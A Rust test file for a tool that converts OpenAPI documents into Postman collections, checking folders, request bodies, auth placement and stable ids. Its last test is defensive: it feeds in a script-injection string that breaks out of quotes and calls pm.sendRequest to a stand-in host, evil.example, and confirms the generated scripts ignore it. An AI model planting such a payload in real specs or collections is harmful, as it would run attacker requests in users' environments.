use std::collections::HashSet;

use serde_json::Value;

use super::{
    super::fixture::{demo, hostile, of},
    *,
};

const ORIGIN: &str = "https://dev.example.com";

fn collection(place: &Place) -> Value {
    Collection::of(place, ORIGIN).to_json()
}

/// Every request of a collection, without its folders.
fn requests(item: &Value) -> Vec<&Value> {
    match item["item"].as_array() {
        Some(items) => items.iter().flat_map(requests).collect(),
        None => vec![item],
    }
}

/// One operation with this under its method.
fn operation(method: &str, path: &str, rest: &str) -> Value {
    let place = of(&format!(
        "openapi: 3.1.0\ninfo: {{title: x, version: '1'}}\npaths:\n  '{path}':\n    {method}: {{operationId: x, {rest}}}\ncomponents:\n  securitySchemes:\n    basic: {{type: http, scheme: basic}}\n    header: {{type: apiKey, in: header, name: X-Key}}\n    query: {{type: apiKey, in: query, name: key}}\n    cookie: {{type: apiKey, in: cookie, name: session}}\n    oauth: {{type: oauth2, flows: {{clientCredentials: {{tokenUrl: 'https://a.example/token', scopes: {{read: Read.}}}}}}}}\n"
    ));
    collection(&place)
}

#[test]
fn operations_are_in_the_folders_of_the_menu() {
    let collection = collection(&demo());
    let names = |item: &Value| -> Vec<String> {
        item["item"].as_array().unwrap().iter().map(|item| item["name"].as_str().unwrap().to_owned()).collect()
    };
    assert_eq!(names(&collection), ["Sending", "On the road", "Your account"]);
    assert_eq!(names(&collection["item"][0]), ["Shipments", "Labels", "Addresses"]);
    assert_eq!(requests(&collection).len(), demo().document().operations().len());
}

#[test]
fn a_request_is_ready_to_be_sent() {
    let collection = collection(&demo());
    let create = requests(&collection).into_iter().find(|item| item["name"] == "Create a shipment").unwrap();
    let request = &create["request"];
    assert_eq!(request["method"], "POST");
    assert_eq!(request["url"]["raw"], "{{baseUrl}}/shipments");
    assert_eq!(request["body"]["mode"], "raw");
    let body: Value = serde_json::from_str(request["body"]["raw"].as_str().unwrap()).unwrap();
    assert_eq!(body["service"], "standard");
    let header =
        |name: &str| request["header"].as_array().unwrap().iter().find(|header| header["key"] == name).unwrap();
    assert_eq!(header("Idempotency-Key")["value"], "{{$guid}}");
    assert_eq!(header("Content-Type")["value"], "application/json");
    assert_eq!(header("Accept-Language")["disabled"], true);
    assert_eq!(request.get("auth"), None, "it is called as the collection says");
    assert_eq!(collection["auth"]["bearer"][0]["value"], "{{sandboxKey}}");
    assert_eq!(create["response"][0]["code"], 201);
    assert_eq!(create["response"][0]["originalRequest"]["method"], "POST");
    assert_eq!(create["event"][0]["script"]["exec"][1], "  pm.response.to.have.status(201);");
}

#[test]
fn what_may_be_left_out_is_switched_off_and_path_values_are_variables() {
    let collection = operation(
        "get",
        "/a/{id}/{from}..{to}",
        "parameters: [{name: id, in: path, required: true, schema: {const: a/b}}, {name: from, in: path, required: true, schema: {const: 1}}, {name: to, in: path, required: true, schema: {const: 2}}, {name: at, in: query, required: true, schema: {const: '10:00'}}, {name: tag, in: query, schema: {const: x&y}}]",
    );
    let url = &collection["item"][0]["request"]["url"];
    assert_eq!(url["raw"], "{{baseUrl}}/a/:id/1..2?at=10:00");
    assert_eq!(url["variable"][0]["value"], "a%2Fb");
    assert_eq!(url["query"][1]["value"], "x%26y");
    assert_eq!(url["query"][1]["disabled"], true);
}

#[test]
fn the_key_goes_where_the_document_says() {
    let asked = |schemes: &str| operation("get", "/a", &format!("security: [{schemes}]"));
    assert_eq!(asked("{}")["auth"]["type"], "bearer", "the sandbox wants to know who calls");
    assert_eq!(asked("{basic: []}")["auth"]["basic"][0]["value"], "{{sandboxKey}}");
    assert_eq!(asked("{header: []}")["auth"]["apikey"][0]["value"], "X-Key");
    assert_eq!(asked("{query: []}")["auth"]["apikey"][2]["value"], "query");
    let oauth = asked("{oauth: [read]}");
    let settings = oauth["auth"]["oauth2"].as_array().unwrap();
    let of = |name: &str| settings.iter().find(|setting| setting["key"] == name).unwrap()["value"].as_str().unwrap();
    assert_eq!((of("accessToken"), of("scope"), of("grant_type")), ("{{sandboxKey}}", "read", "client_credentials"));
    let both = asked("{header: [], query: []}");
    assert_eq!(both["item"][0]["request"]["url"]["raw"], "{{baseUrl}}/a?key={{sandboxKey}}");
    let cookie = asked("{cookie: []}");
    assert_eq!(cookie["auth"]["type"], "noauth");
    assert_eq!(cookie["item"][0]["request"]["header"][0]["value"], "session={{sandboxKey}}");
}

#[test]
fn bodies_are_of_their_kind() {
    let sent = |content: &str| {
        let collection = operation("post", "/a", &format!("requestBody: {{content: {{{content}}}}}"));
        collection["item"][0]["request"]["body"].clone()
    };
    assert_eq!(sent("application/x-www-form-urlencoded: {example: {a: b}}")["urlencoded"][0]["value"], "b");
    let parts =
        sent("multipart/form-data: {schema: {type: object, properties: {photo: {type: string, format: binary}}}}");
    assert_eq!((&parts["formdata"][0]["type"], &parts["formdata"][0]["src"]), (&"file".into(), &"photo.bin".into()));
    assert_eq!(sent("application/pdf: {}")["file"]["src"], "file.pdf");
    assert_eq!(sent("text/plain: {example: hello}")["options"]["raw"]["language"], "text");
}

#[test]
fn ids_stay_and_differ() {
    let (first, second) = (collection(&demo()), collection(&demo()));
    assert_eq!(first, second);
    let mut seen = HashSet::new();
    for item in requests(&first) {
        assert!(seen.insert(item["id"].to_string()), "{}", item["name"]);
        for answer in item["response"].as_array().unwrap() {
            assert!(seen.insert(answer["id"].to_string()), "{} {}", item["name"], answer["name"]);
        }
    }
}

#[test]
fn a_script_holds_no_text_of_the_document() {
    let calm = collection(&hostile("calm"));
    let evil = collection(&hostile("\"); pm.sendRequest(\"https://evil.example\"); //\n"));
    assert_eq!(calm["item"][0]["item"][0]["item"][0]["event"], evil["item"][0]["item"][0]["item"][0]["event"]);
    assert!(calm["item"][0]["item"][0]["item"][0]["event"].is_array());
}
